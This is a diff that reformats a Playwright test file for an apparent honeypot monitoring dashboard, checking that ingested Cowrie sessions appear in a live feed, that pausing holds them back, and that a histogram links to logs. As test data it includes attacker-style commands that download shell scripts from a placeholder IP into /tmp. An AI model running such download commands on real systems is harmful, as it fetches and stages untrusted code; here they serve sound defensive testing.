@@ -2,7 +2,10 @@ import { expect, test } from '@playwright/test';
 import { push, pushKey } from './cowrie';
 import { logIn, watch } from './server';
 
-test('what is ingested is in the live feed within two seconds, and a pause holds it back', async ({ page, request }) => {
+test('what is ingested is in the live feed within two seconds, and a pause holds it back', async ({
+  page,
+  request,
+}) => {
   test.setTimeout(120_000);
   const seen = watch(page);
   const token = await logIn(page);
@@ -11,16 +14,27 @@ test('what is ingested is in the live feed within two seconds, and a pause holds
   await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible({ timeout: 45_000 });
 
   const first = `live${Date.now().toString(16)}`;
-  await push(request, key, { session: first, address: '198.51.100.51', commands: ['wget http://203.0.113.5/x.sh -O /tmp/x'] });
+  await push(request, key, {
+    session: first,
+    address: '198.51.100.51',
+    commands: ['wget http://203.0.113.5/x.sh -O /tmp/x'],
+  });
   const feed = page.getByRole('list', { name: 'What happened, the latest first' });
-  const line = feed.getByRole('listitem').filter({ hasText: `e2e-1:${first}` }).filter({ hasText: 'T1105' });
+  const line = feed
+    .getByRole('listitem')
+    .filter({ hasText: `e2e-1:${first}` })
+    .filter({ hasText: 'T1105' });
   await expect(line.first()).toBeVisible({ timeout: 2_000 });
 
   await page.getByRole('button', { name: 'Pause' }).click();
   await expect(page).toHaveURL(/live=false/);
   await expect(page.getByRole('status').filter({ hasText: 'Paused' })).toBeVisible();
   const second = `held${Date.now().toString(16)}`;
-  await push(request, key, { session: second, address: '198.51.100.52', commands: ['wget http://203.0.113.5/y.sh -O /tmp/y'] });
+  await push(request, key, {
+    session: second,
+    address: '198.51.100.52',
+    commands: ['wget http://203.0.113.5/y.sh -O /tmp/y'],
+  });
   await expect(feed).not.toContainText(second);
   await page.getByRole('button', { name: 'Go on' }).click();
   await expect(feed.getByRole('listitem').filter({ hasText: second }).first()).toBeVisible();
@@ -30,7 +44,10 @@ test('what is ingested is in the live feed within two seconds, and a pause holds
 test('an hour of the histogram leads to its lines in the log', async ({ page }) => {
   await logIn(page);
   await page.goto('/');
-  await page.getByRole('button', { name: /^\d\d:\d\d to \d\d:\d\d: / }).last().click();
+  await page
+    .getByRole('button', { name: /^\d\d:\d\d to \d\d:\d\d: / })
+    .last()
+    .click();
   await expect(page).toHaveURL(/\/live-logs\?.*time=/);
 });
 
